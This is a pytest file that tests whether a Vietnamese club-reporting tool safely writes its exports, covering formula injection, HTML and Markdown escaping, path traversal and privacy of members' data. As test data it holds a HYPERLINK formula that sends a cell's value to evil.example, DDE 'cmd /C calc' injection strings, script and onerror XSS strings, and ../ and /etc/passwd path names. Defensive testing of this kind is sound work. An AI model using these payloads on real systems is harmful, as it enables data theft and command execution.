"""Security of what the tool WRITES (hostile inputs being read: see test_hostile_inputs.py).

- formula injection: text typed as `=…`, `+…`, `-…`, `@…`, or after a tab or CR, in club names,
  members' names, descriptions, village names, the commune's signature lines and the plan's
  wording, stays text in every XLSX (no formula cell) and is neutralised in every CSV;
- markup: a club named `<script>…` is escaped in the HTML, Markdown and Word reports;
- paths: nothing derived from club codes, club names or file names (`..`, `/`, `\\`) puts
  a file outside the output folder;
- privacy: what is sent upward (the report in every format, the indicators) carries no
  member's name or phone number; the merged workbook carries them only for internal use.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import json
import os
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from clubtool.export import export
from clubtool.indicators import plan as plan_module
from clubtool.merge import merge
from clubtool.settings import load_settings
from clubtool.validation import validate
from clubtool.workbook.reader import load

from ..factories import club_data, commune_data, write_club, write_commune

YEAR = 2027
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 sau dấu tab",
    "\r=2+2 sau dấu CR",
]
SCRIPT_NAME = "<script>alert('x')</script> & <img src=x onerror=alert(1)>"
PATH_NAME = "../../../thoat_ra ..\\..\\thoat_ra /etc/passwd"
EVIL_FILE = "CLB ..\\..\\..\\thoat_ra.xlsx" if os.name != "nt" else "CLB thoat_ra.xlsx"
FORMATS = ("docx", "html", "xlsx", "md", "json")


def _textify(path: Path) -> Path:
    """Cells written as `=…` become text cells, as when a club types '=… in Excel."""
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    wb.save(path)
    return path


def _hostile_club() -> dict[str, Any]:
    c = club_data(club_id="MH-01", village="@Thôn Đông")
    c["info"]["name"] = HOSTILE[0]
    c["info"]["prepared_by"] = HOSTILE[1]
    for i, text in enumerate(HOSTILE):
        c["members"][10 + i]["name"] = text
        c["members"][10 + i]["note"] = text
    c["fund"][0]["description"] = HOSTILE[1]
    c["fund"][1]["description"] = HOSTILE[4]
    c["meetings"][0]["summary"] = HOSTILE[2]
    c["outreach"][0]["content"] = HOSTILE[3]
    c["trainings"][0]["organiser"] = HOSTILE[5]
    return c


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("dau_ra")
    data = root / "du_lieu"
    data.mkdir()
    _textify(write_club(data / "clb_doc_hai.xlsx", _hostile_club()))
    script = club_data(club_id="MH-02", village="Thôn Tây")
    script["info"]["name"] = SCRIPT_NAME
    script["members"][20]["name"] = "Nguyễn Thị <b>Đậm</b>"
    write_club(data / "clb_the_script.xlsx", script)
    bad = club_data(club_id="../../x", village="Thôn Nam")  # fails the Mã CLB pattern
    bad["info"]["name"] = PATH_NAME
    bad["members"][7]["gender"] = "=GIỚI+1"
    bad["members"][8]["name"] = HOSTILE[2]
    _textify(write_club(data / EVIL_FILE, bad))
    commune = commune_data()
    commune["villages"][0]["name"] = "@Thôn Đông"
    commune["registry"][0].update(village="@Thôn Đông", name="=cmd|' /C calc'!A0")
    commune["info"].update(signer="+Trần Văn An", recipients="=UBND tỉnh\n-Lưu: VT")
    _textify(write_commune(data / "xa.xlsx", commune))

    plan_text = (Path(plan_module.__file__).parent / "plans" / plan_module.DEFAULT_PLAN
                 ).read_text(encoding="utf-8")
    plan = root / "ke_hoach.toml"
    plan.write_text(plan_text.replace('name = "80% hội viên', 'name = "=HYPERLINK(1)+80% hội viên', 1),
                    encoding="utf-8")

    before = set(root.rglob("*"))
    out = root / "ket_qua"
    settings = load_settings(options={"data_dir": data, "out_dir": out, "formats": ",".join(FORMATS),
                                      "plan": plan}, env={}, cwd=root)
    result = export(settings, year=YEAR, today=dt.date(2028, 1, 10))
    assert result.status == 1, result.messages  # the club with ../../x is invalid
    created = set(root.rglob("*")) - before

    report = validate([data], year=YEAR)
    csv_dir = root / "tong_hop_csv"
    merge(report, csv_dir, year=YEAR, fmt="csv")
    no_names = merge(report, root / "tong_hop_gui_len.xlsx", year=YEAR, names=False).path
    valid = [load(p) for p in (data / "clb_doc_hai.xlsx", data / "clb_the_script.xlsx")]
    people = {m.name for x in valid for m in x.club.members if m.name}  # type: ignore[union-attr]
    people |= {x.club.info.chair for x in valid if x.club.info.chair}  # type: ignore[union-attr]
    # The hostile texts are also used as notes, descriptions and a club name: not as names here.
    people -= {t.strip() for t in HOSTILE}
    phones = sorted({x.club.info.phone for x in valid if x.club.info.phone})  # type: ignore[union-attr]
    return {"root": root, "data": data, "out": out, "final": out / str(YEAR), "created": created,
            "csv_dir": csv_dir, "no_names": no_names, "people": sorted(people), "phones": phones,
            "parsed": load(data / "clb_doc_hai.xlsx")}


# --- helpers --------------------------------------------------------------------------------


def cells(path: Path) -> Iterator[tuple[str, Any]]:
    wb = openpyxl.load_workbook(path)
    try:
        for ws in wb:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        yield f"{ws.title}!{cell.coordinate}", cell
    finally:
        wb.close()


def xlsx_text(path: Path) -> str:
    return "\n".join(str(c.value) for _, c in cells(path))


def docx_text(path: Path) -> str:
    """The text of every paragraph of the document, headers and footers (runs joined)."""
    out = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("word/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                out.extend("".join(html.unescape(t) for t in
                                   re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", para))
                           for para in re.findall(r"<w:p[ >].*?</w:p>", xml, flags=re.S))
    return "\n".join(out)


def text_of(path: Path) -> str:
    """What a reader of the file sees, markup and escapes undone."""
    if path.suffix == ".xlsx":
        return xlsx_text(path)
    if path.suffix == ".docx":
        return docx_text(path)
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".html":
        return html.unescape(re.sub(r"<[^>]+>", "", text))
    if path.suffix == ".md":
        return re.sub(r"\\(.)", r"\1", text)
    if path.suffix == ".json":
        return json.dumps(json.loads(text), ensure_ascii=False)
    return text


def csv_cells(path: Path) -> Iterator[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def parsed_hostile(run: dict[str, Any]) -> list[str]:
    """The hostile texts as the reader keeps them (trimmed: a leading tab or CR goes)."""
    club = run["parsed"].club
    names = [m.name for m in club.members[10:16]]
    assert [n.strip() for n in HOSTILE] == names
    return names


# --- formula injection ----------------------------------------------------------------------


def test_no_formula_cell_in_any_xlsx_output(run: dict[str, Any]) -> None:
    final: Path = run["final"]
    workbooks = [final / "tong_hop_2027.xlsx", final / "bao_cao_2027.xlsx", run["no_names"],
                 *sorted((final / "tra_lai").glob("*.xlsx"))]
    assert len(workbooks) == 4
    for path in workbooks:
        formulas = [(where, c.value) for where, c in cells(path) if c.data_type == "f"]
        if path.name.startswith("tong_hop"):
            # The merged workbook's own totals (SUBTOTAL over the club rows) and nothing else.
            last = max(int(re.sub(r"\D", "", w.split("!")[1])) for w, _ in cells(path)
                       if w.startswith("CLB!"))
            assert formulas and all(w.startswith("CLB!") and w.endswith(str(last))
                                    and re.match(r"=(SUBTOTAL|IF)\(", v) for w, v in formulas)
        elif path.parent.name == "tra_lai":
            # The annotated copy is the club's own workbook: only its listing sheet is ours.
            assert [f for f in formulas if f[0].startswith("Lỗi cần sửa!")] == []
        else:
            assert formulas == [], path


def test_hostile_text_is_written_unchanged_as_text(run: dict[str, Any]) -> None:
    final: Path = run["final"]
    texts = parsed_hostile(run)
    merged = {c.value for _, c in cells(final / "tong_hop_2027.xlsx") if c.data_type == "s"}
    assert set(texts) <= merged  # members' names, descriptions, summaries, contents
    assert "@Thôn Đông" in merged
    report = {c.value for _, c in cells(final / "bao_cao_2027.xlsx") if c.data_type == "s"}
    assert texts[0] in report  # the club's name
    copy = final / "tra_lai" / EVIL_FILE
    listing = [c for w, c in cells(copy) if w.startswith("Lỗi cần sửa!")]
    hits = [c for c in listing if c.value == "=GIỚI+1"]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)


def test_csv_outputs_never_start_a_cell_with_a_formula(run: dict[str, Any]) -> None:
    files = [run["final"] / "chi_tieu_2027.csv", *sorted(run["csv_dir"].glob("*.csv"))]
    assert len(files) > 3
    seen: set[str] = set()
    for path in files:
        for cell in csv_cells(path):
            assert not cell.startswith(FORMULA_START) or is_number(cell), (path.name, cell)
            seen.add(cell)
    assert "'=HYPERLINK(1)+80% hội viên, người cao tuổi và cộng đồng được tuyên truyền" in seen
    assert {"'" + t for t in parsed_hostile(run)} <= seen
    assert "'@Thôn Đông" in seen


# --- markup ---------------------------------------------------------------------------------


def test_html_report_escapes_club_names(run: dict[str, Any]) -> None:
    page = (run["final"] / "bao_cao_2027.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page and "<b>Đậm" not in page
    cells_text = [html.unescape(t) for t in re.findall(r"<td[^>]*>([^<]*)</td>", page)]
    assert SCRIPT_NAME in cells_text


def test_markdown_and_word_reports_keep_markup_as_text(run: dict[str, Any]) -> None:
    md = (run["final"] / "bao_cao_2027.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "\\<script\\>" in md
    word = run["final"] / "bao_cao_2027.docx"
    with zipfile.ZipFile(word) as zf:
        xml = zf.read("word/document.xml").decode("utf-8")
    assert "<script>" not in xml and "&lt;script&gt;" in xml
    assert SCRIPT_NAME in docx_text(word)


# --- paths ----------------------------------------------------------------------------------


def test_no_output_leaves_the_output_folder(run: dict[str, Any]) -> None:
    out: Path = run["out"].resolve()
    for p in run["created"]:
        assert p.resolve() == out or out in p.resolve().parents, p
    copies = sorted(p.name for p in (run["final"] / "tra_lai").iterdir())
    assert EVIL_FILE in copies
    assert set(copies) <= {p.name for p in run["data"].iterdir()}
    assert not (run["root"].parent / "thoat_ra.xlsx").exists()
    assert not list(run["root"].parent.glob("thoat_ra*"))


def test_club_code_with_dots_is_refused_and_named_nowhere_in_paths(run: dict[str, Any]) -> None:
    checked = json.loads((run["final"] / "kiem_tra_2027.json").read_text(encoding="utf-8"))
    evil = next(f for f in checked["files"] if Path(f["path"]).name == EVIL_FILE)
    assert not evil["valid"]
    assert any(i["code"] == "pattern" and i["column"] == "Mã CLB" for i in evil["issues"])
    for p in run["created"]:
        assert "thoat_ra" not in p.name or p.name == EVIL_FILE
        assert "passwd" not in str(p)


# --- privacy --------------------------------------------------------------------------------


def upward_files(run: dict[str, Any]) -> list[Path]:
    final: Path = run["final"]
    return [final / f"bao_cao_2027.{f}" for f in FORMATS] + [final / "chi_tieu_2027.json",
                                                            final / "chi_tieu_2027.csv"]


def test_outputs_sent_upward_hold_no_member_name_or_phone(run: dict[str, Any]) -> None:
    people, phones = run["people"], run["phones"]
    assert len(people) > 60 and "Nguyễn Thị Lan" in people and phones
    assert "Nguyễn Thị <b>Đậm</b>" in people
    for path in upward_files(run):
        text = text_of(path)
        assert len(text) > 500, path
        found = [n for n in people if n in text]
        assert found == [], (path.name, found[:5])
        digits = re.sub(r"\D", "", text)
        assert not any(re.sub(r"\D", "", p) in digits for p in phones), path.name


def test_the_merged_workbook_holds_names_only_when_internal(run: dict[str, Any]) -> None:
    internal = xlsx_text(run["final"] / "tong_hop_2027.xlsx")
    assert "Nguyễn Thị Lan" in internal and "Thành viên Số 006" in internal
    upward = xlsx_text(run["no_names"])
    assert [n for n in run["people"] if n in upward] == []
    assert not any(p in upward for p in run["phones"])
    wb = openpyxl.load_workbook(run["no_names"], read_only=True)
    assert "Thành viên" in wb.sheetnames  # the rows are kept, the names are not
    wb.close()


def test_the_manifest_names_inputs_by_their_own_file_names(run: dict[str, Any]) -> None:
    manifest = json.loads((run["final"] / "manifest.json").read_text(encoding="utf-8"))
    assert EVIL_FILE in manifest["inputs"]
    assert all(not Path(k).is_absolute() and ".." not in Path(k).parts
               for k in manifest["outputs"])


def test_csv_text_helpers() -> None:
    from clubtool.indicators.format import csv_text as indicators_csv_text
    from clubtool.merge._writers import csv_text as merge_csv_text

    for fn in (indicators_csv_text, merge_csv_text):
        for text in HOSTILE:
            assert fn(text) == "'" + text
        assert fn("Thôn Đông") == "Thôn Đông" and fn("") == ""
